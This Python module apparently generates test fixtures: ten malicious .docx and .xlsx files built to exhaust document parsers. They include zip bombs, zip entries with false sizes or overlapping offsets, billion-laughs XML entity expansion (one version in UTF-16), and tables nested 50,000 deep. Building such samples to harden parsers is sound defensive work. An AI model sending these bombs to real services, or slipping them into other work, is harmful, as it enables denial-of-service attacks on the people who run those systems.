"""Ten office files that swell to gigabytes, lie about it or never end; none is larger than ten megabytes."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

from proof.pdf_bombs import MEGA

WORD, BOOK, CELLS = "word/document.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"
PARTS = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _related(kind: str, target: str) -> str:
    one = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"/>'
    return f'<Relationships xmlns="{PARTS}/relationships">{one}</Relationships>'


# What makes a document or a workbook of the part that swells.
WORDS = {
    "[Content_Types].xml": f'<Types xmlns="{PARTS}/content-types"/>',
    "_rels/.rels": _related("officeDocument", WORD),
}
FRAME = WORDS | {
    "_rels/.rels": _related("officeDocument", BOOK),
    "xl/_rels/workbook.xml.rels": _related("worksheet", "worksheets/sheet1.xml"),
    BOOK: f'<workbook xmlns="{S}" xmlns:r="{OFFICE}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets>'
    "</workbook>",
}


class Entry(NamedTuple):
    """A part of a zip file: packed already, with the length it is said to have."""

    name: str
    content: bytes
    length: int
    place: int | None = None  # where the directory says that it lies, if not where it does


def cases() -> Iterator[tuple[str, bytes]]:
    """Each with what is wrong with it."""
    return ((bomb.__name__.strip("_").replace("_", " ") + f".{ending}", bomb()) for bomb, ending in BOMBS)


def swollen(head: str, piece: bytes, times: int, tail: str) -> bytes:
    """A text with a piece repeated so often, deflated: the packed piece is repeated, not the work."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = squeezer.compress(head.encode()) + squeezer.flush(zlib.Z_FULL_FLUSH)
    again = squeezer.compress(piece) + squeezer.flush(zlib.Z_FULL_FLUSH)
    return first + again * times + squeezer.compress(tail.encode()) + squeezer.flush()


def archive(entries: list[Entry], frame: dict[str, str]) -> bytes:
    """A zip file of these entries and the plain texts of a frame, whatever they say of themselves."""
    plain = [Entry(name, swollen(text, b"", 0, ""), len(text)) for name, text in frame.items()]
    out, directory = bytearray(), bytearray()
    for name, content, length, place in [*plain, *entries]:
        about = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(content), min(length, 0xFFFFFFFE), len(name), 0)
        where = len(out) if place is None else place
        directory += (
            b"PK\1\2" + struct.pack("<H", 20) + about + struct.pack("<HHHII", 0, 0, 0, 0, where) + name.encode()
        )
        out += b"PK\3\4" + about + name.encode() + content
    count = min(len(plain) + len(entries), 0xFFFF)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(out), 0)
    return bytes(out + directory + b"PK\5\6" + end)


def _ten_gigabytes_of_paragraphs() -> bytes:
    text = swollen(f'<w:document xmlns:w="{W}"><w:body>', b"<w:p/>" * 170_000, 10_000, "</w:body></w:document>")
    return archive([Entry(WORD, text, 10_000 * MEGA)], WORDS)


def _ten_gigabytes_of_rows() -> bytes:
    text = swollen(f'<worksheet xmlns="{S}"><sheetData>', b"<row/>" * 170_000, 10_000, "</sheetData></worksheet>")
    return archive([Entry(CELLS, text, 10_000 * MEGA)], FRAME)


def _gigabytes_said_to_be_a_page() -> bytes:
    text = swollen(f'<w:document xmlns:w="{W}"><w:body>', b"<w:p/>" * 170_000, 5_000, "</w:body></w:document>")
    return archive([Entry(WORD, text, 4000)], WORDS)


def _rows_said_to_be_few() -> bytes:
    text = swollen(f'<worksheet xmlns="{S}"><sheetData>', b"<row/>" * 170_000, 5_000, "</sheetData></worksheet>")
    return archive([Entry(CELLS, text, 4000)], FRAME)


def _sixty_thousand_parts() -> bytes:
    nothing = swollen("<x/>", b"", 0, "")
    return archive([Entry(f"word/{number}.xml", nothing, 4) for number in range(60_000)], WORDS)


def _one_piece_sold_a_thousand_times() -> bytes:
    text = swollen("", b"<w:p/>" * 1000, 200, "")
    return archive(
        [Entry(WORD, text, 1_200_000, 0), *(Entry(f"word/{n}.xml", b"", 100_000, 0) for n in range(999))], {}
    )


def _laughs(inside: str) -> bytes:
    names = "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{names}]>{inside}'.encode()


def _billion_laughs() -> bytes:
    return _zipped(WORD, _laughs(f'<w:document xmlns:w="{W}"><w:body><w:p>&l11;</w:p></w:body></w:document>'))


def _laughs_in_other_letters() -> bytes:
    laughs = _laughs(f'<w:document xmlns:w="{W}"><w:body><w:p>&l11;</w:p></w:body></w:document>')
    return _zipped(WORD, laughs.decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16"))


def _cells_at_both_ends_of_the_earth() -> bytes:
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _zipped(CELLS, f'<worksheet xmlns="{S}"><sheetData>{cells}</sheetData></worksheet>'.encode(), FRAME)


def _tables_in_tables() -> bytes:
    dice = random.Random(1)
    begun = "".join(f'<w:tbl w:rsid="{dice.randbytes(8).hex()}"><w:tr><w:tc>' for _ in range(50_000))
    deep = begun + "</w:tc></w:tr></w:tbl>" * 50_000
    return _zipped(WORD, f'<w:document xmlns:w="{W}"><w:body>{deep}</w:body></w:document>'.encode())


def _zipped(name: str, content: bytes, frame: dict[str, str] = WORDS) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for each, text in frame.items():
            made.writestr(each, text)
        made.writestr(name, content)
    return out.getvalue()


BOMBS: tuple[tuple[Callable[[], bytes], str], ...] = (
    (_ten_gigabytes_of_paragraphs, "docx"),
    (_ten_gigabytes_of_rows, "xlsx"),
    (_gigabytes_said_to_be_a_page, "docx"),
    (_rows_said_to_be_few, "xlsx"),
    (_sixty_thousand_parts, "docx"),
    (_one_piece_sold_a_thousand_times, "docx"),
    (_billion_laughs, "docx"),
    (_laughs_in_other_letters, "docx"),
    (_cells_at_both_ends_of_the_earth, "xlsx"),
    (_tables_in_tables, "docx"),
)
